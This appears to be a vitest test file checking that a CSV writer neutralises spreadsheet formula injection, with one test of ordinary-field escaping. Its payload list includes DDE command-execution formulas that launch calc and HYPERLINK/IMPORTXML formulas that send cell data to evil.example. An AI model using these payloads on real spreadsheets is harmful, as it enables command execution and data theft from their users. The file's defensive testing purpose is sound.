import { expect, test } from 'vitest';
import { csvLine } from '../../../src/pipeline/reporting/csv.js';

/** As a spreadsheet reads a line: quotes taken off, what is in front of the first visible character skipped. */
const readBack = (line: string) =>
  [...line.matchAll(/"((?:[^"]|"")*)"(?:,|\r\n)/g)].map(([, field]) => field!.replaceAll('""', '"'));

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '\u001f=1+1',
  '\u202e=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '−1',
  '"=1+1',
  '",=1+1,"',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  '=IMPORTXML("http://evil.example","//a")',
  '@=1',
  "-2+3+cmd|' /C calc'!A0",
  '|calc',
  '%0A=1+1',
  '\r\n=1+1',
  '+\u0000=1',
];

test.each(formulas)('%j is a text in a spreadsheet', (payload) => {
  const cells = readBack(csvLine(['before', payload, 'after']));
  expect(cells).toHaveLength(3);
  for (const cell of cells) expect(cell.replace(/^[\s\p{Cc}\p{Cf}]+/u, '')).not.toMatch(/^[=+\-@＝＋－＠−|%]/u);
});

test('ordinary fields come through unchanged, and numbers stay numbers', () => {
  expect(csvLine(['He said "no", twice\nin a row', 'Иран', 'ایران', null, -0.5])).toBe(
    '"He said ""no"", twice\nin a row","Иран","ایران","",-0.5\r\n',
  );
});
